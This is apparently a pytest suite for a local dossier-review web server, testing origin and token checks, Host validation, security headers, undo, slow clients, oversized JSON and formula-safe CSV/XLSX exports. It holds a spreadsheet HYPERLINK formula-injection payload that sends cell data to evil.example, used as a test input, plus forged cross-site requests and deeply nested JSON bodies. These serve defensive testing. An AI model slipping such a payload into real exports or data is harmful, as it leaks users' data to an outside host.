"""The review server over real HTTP on 127.0.0.1: who may write, which hosts it answers, headers,
per-reviewer undo, slow readers, hostile bodies, and exports that cannot run formulas."""

from __future__ import annotations

import csv
import http.client
import io
import json
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from wb.corpus.importer import import_folder
from wb.dossiers.review import ReviewSession
from wb.dossiers.review_server import ReviewServer, serve
from wb.store import open_project
from wb.store.findings import current_decisions, store_findings
from wb.store.project import Project

TEXT = "Volgens de school is moeder overbezorgd. Vader noemt het ouderverstoting.\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


@dataclass
class Running:
    server: ReviewServer
    project: Project
    findings: list[int]

    @property
    def port(self) -> int:
        return self.server.server_port

    def request(
        self,
        method: str,
        path: str,
        body: bytes | None = None,
        headers: dict[str, str] | None = None,
    ) -> tuple[int, dict[str, str], bytes]:
        """One request; returns status, headers and body."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            conn.request(method, path, body=body, headers=headers or {})
            resp = conn.getresponse()
            return resp.status, dict(resp.getheaders()), resp.read()
        finally:
            conn.close()

    def post(self, path: str, data: object, **headers: str) -> tuple[int, dict]:
        """A write as the page makes it (token, JSON), with extra or replaced headers."""
        base = {"Content-Type": "application/json", "X-WB-Token": self.server.token}
        base.update({k.replace("_", "-"): v for k, v in headers.items()})
        body = data if isinstance(data, bytes) else json.dumps(data).encode()
        status, _, raw = self.request("POST", path, body, {k: v for k, v in base.items() if v})
        return status, json.loads(raw) if raw.startswith(b"{") else {}


@pytest.fixture
def running(tmp_path: Path) -> Iterator[Running]:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "r1.txt").write_text(TEXT, encoding="utf-8")
    (folder / "metadata.csv").write_text(
        "file,dossier,date,type\nr1.txt,D1,2022-06-28,raadsrapport\n", encoding="utf-8"
    )
    with open_project(tmp_path / "p.wbproj") as project:
        import_folder(project, folder)
        items = [
            {"doc_id": 1, "start": s, "end": s + len(w), "key": w, "payload": {"label": w}}
            for w in ("overbezorgd", "ouderverstoting")
            for s in [TEXT.index(w)]
        ]
        ids = store_findings(project, "label", items)
        server = serve(ReviewSession(project), 0)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield Running(server, project, ids)
        finally:
            server.shutdown()
            server.server_close()


def test_cross_site_simple_posts_store_nothing(running: Running) -> None:
    body = json.dumps({"finding": running.findings[0], "reviewer": "x", "decision": "niet terecht"})
    evil = {"Origin": "http://evil.example", "Content-Type": "text/plain"}
    assert running.request("POST", "/api/decision", body.encode(), evil)[0] == 403
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert running.request("POST", "/api/decision", body.encode(), form)[0] == 415
    assert running.post("/api/decision", body.encode(), X_WB_Token="")[0] == 403
    assert running.post("/api/decision", body.encode(), X_WB_Token="raden")[0] == 403
    own = f"http://127.0.0.1:{running.port}"
    # Even with the token: a foreign origin, a cross-site fetch, or text/plain is refused.
    assert running.post("/api/decision", body.encode(), Origin="http://evil.example")[0] == 403
    assert running.post("/api/decision", body.encode(), Sec_Fetch_Site="cross-site")[0] == 403
    assert running.post("/api/decision", body.encode(), Content_Type="text/plain")[0] == 415
    assert running.post("/api/undo", {"reviewer": "x"}, Origin="null")[0] == 403
    assert current_decisions(running.project) == {}
    # The page itself: token, JSON, own origin, same-origin fetch.
    ok = running.post("/api/decision", body.encode(), Origin=own, Sec_Fetch_Site="same-origin")
    assert ok[0] == 200 and ok[1]["ok"] is True
    assert [d["reviewer"] for d in current_decisions(running.project).values()] == ["x"]


def test_the_page_carries_the_session_token(running: Running) -> None:
    status, _, page = running.request("GET", "/", headers={"Host": f"localhost:{running.port}"})
    assert status == 200
    assert f'<meta name="wb-token" content="{running.server.token}">' in page.decode()
    assert "__WB_TOKEN__" not in page.decode() and len(running.server.token) >= 40
    other = serve(ReviewSession(running.project), 0)
    try:
        assert other.token != running.server.token  # a new token per server
    finally:
        other.server_close()


def test_other_hosts_get_no_data(running: Running) -> None:
    hosts = ["evil.example:{port}", "evil.example", "127.0.0.1:1", "localhost.evil.example:{port}"]
    for host in [*hosts, ""]:
        for path in ("/api/items?dossier=D1", "/api/export.csv", "/api/dossiers", "/"):
            status, headers, body = running.request(
                "GET", path, headers={"Host": host.format(port=running.port)}
            )
            assert status == 421, (host, path)
            assert b"overbezorgd" not in body and b"D1" not in body
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_cross_site_reads_of_data_are_refused(running: Running) -> None:
    for site in ("cross-site", "same-site"):
        status, _, body = running.request(
            "GET", "/api/items?dossier=D1", headers={"Sec-Fetch-Site": site}
        )
        assert status == 403 and b"overbezorgd" not in body
    for site in ("same-origin", "none"):
        assert running.request("GET", "/api/export.csv", headers={"Sec-Fetch-Site": site})[0] == 200


def test_local_hosts_are_served(running: Running) -> None:
    for host in ("127.0.0.1", "localhost", "[::1]", "LOCALHOST"):
        status, _, body = running.request(
            "GET", "/api/items?dossier=D1", headers={"Host": f"{host}:{running.port}"}
        )
        assert status == 200 and len(json.loads(body)["items"]) == 2, host


def test_every_response_carries_the_security_headers(running: Running) -> None:
    responses = {
        "page": running.request("GET", "/"),
        "not found": running.request("GET", "/nergens"),
        "unknown method": running.request("BREW", "/"),
        "put": running.request("PUT", "/api/decision", b"{}"),
    }
    with socket.create_connection(("127.0.0.1", running.port), timeout=5) as raw:
        raw.sendall(b"GET / zomaar HTTP/1.1\r\n\r\n")  # four words: 400
        reply = raw.recv(65536).decode("latin-1")
    assert reply.startswith("HTTP/1.0 400")
    assert "Content-Security-Policy: default-src 'self'" in reply
    assert "frame-ancestors 'none'" in reply and "X-Content-Type-Options: nosniff" in reply
    assert [r[0] for r in responses.values()] == [200, 404, 501, 501]
    for name, (_, headers, _) in responses.items():
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], name
        assert headers["X-Content-Type-Options"] == "nosniff", name
        assert headers["X-Frame-Options"] == "DENY", name


def test_undo_is_per_reviewer(running: Running) -> None:
    anna, bram = running.findings
    assert (
        running.post("/api/decision", {"finding": anna, "reviewer": "Anna", "decision": "terecht"})[
            0
        ]
        == 200
    )
    assert (
        running.post(
            "/api/decision", {"finding": bram, "reviewer": "Bram", "decision": "niet terecht"}
        )[0]
        == 200
    )
    status, reply = running.post("/api/undo", {"reviewer": "Anna"})
    assert status == 200 and reply == {"ok": True, "finding": anna}
    left = current_decisions(running.project)
    assert list(left) == [bram] and left[bram]["reviewer"] == "Bram"
    assert running.post("/api/undo", {"reviewer": "Anna"})[1] == {"ok": False, "finding": None}
    assert list(current_decisions(running.project)) == [bram]


def test_deep_or_huge_json_is_refused_and_the_server_lives_on(running: Running) -> None:
    for depth in (900_000, 20_000, 9):
        body = b"[" * depth + b"]" * depth
        status, reply = running.post("/api/decision", body)
        assert status == 400, depth
        assert reply["error"] in ("verzoek te groot.", "verzoek te diep genest.")
    nested = {"finding": [[[[[[[[1]]]]]]]], "reviewer": "x", "decision": "terecht"}
    assert running.post("/api/decision", nested)[0] == 400
    assert running.post("/api/decision", b'"tekst"')[0] == 400
    assert running.post("/api/decision", b"{niet: json")[0] == 400
    assert running.request("GET", "/api/dossiers")[0] == 200
    assert current_decisions(running.project) == {}


class HugeSession:
    """A session whose items are ~12 MB of JSON: more than any socket buffer holds."""

    def items(self, dossier: str, reviewer: str | None = None) -> list[dict]:
        return [{"id": i, "text": "woord " * 200} for i in range(10_000)]

    def progress(self, reviewer: str | None = None) -> list[dict]:
        return [{"dossier": "D1", "done": 0, "total": 1}]


def test_a_reader_that_does_not_read_blocks_no_one() -> None:
    server = serve(HugeSession(), 0)  # type: ignore[arg-type]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_port
    slow = socket.socket()
    slow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    try:
        slow.connect(("127.0.0.1", port))
        slow.sendall(
            f"GET /api/items?dossier=D1 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
        )
        time.sleep(0.5)  # the server is now stuck writing to `slow`
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request("GET", "/api/dossiers")
        assert json.loads(conn.getresponse().read())["dossiers"][0]["dossier"] == "D1"
        conn.close()
    finally:
        slow.close()
        server.shutdown()
        server.server_close()
    assert 0 < server.RequestHandlerClass.timeout <= 60  # a stalled connection ends


def test_exports_neutralise_formulas(running: Running, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from wb.exports.tables import export_decisions

    first, second = running.findings
    running.post(
        "/api/decision",
        {"finding": first, "reviewer": HYPERLINK, "decision": "terecht", "comment": "+31 6 1"},
    )
    running.post(
        "/api/decision",
        {"finding": second, "reviewer": "Bram", "decision": "terecht", "comment": HYPERLINK},
    )
    status, headers, body = running.request("GET", "/api/export.csv")
    assert status == 200 and headers["Content-Disposition"].endswith('beoordelingen.csv"')
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r["beoordelaar"] for r in rows] == ["'" + HYPERLINK, "Bram"]
    assert [r["toelichting"] for r in rows] == ["'+31 6 1", "'" + HYPERLINK]
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    out = export_decisions(running.project, tmp_path / "b.csv")
    assert out.read_bytes() == body
    book = load_workbook(export_decisions(running.project, tmp_path / "b.xlsx"))
    cell = book["Beoordelingen"]["H2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")  # text in XLSX, never a formula


def test_every_served_file_is_packaged() -> None:
    import tomllib

    from wb.dossiers.review_server import FILES, STATIC

    pyproject = Path(__file__).resolve().parent.parent / "pyproject.toml"
    globs = tomllib.loads(pyproject.read_text(encoding="utf-8"))["tool"]["setuptools"]
    patterns = globs["package-data"]["wb"]
    for name, _kind in FILES.values():
        assert (STATIC / name).is_file()
        assert f"**/*{Path(name).suffix}" in patterns, name
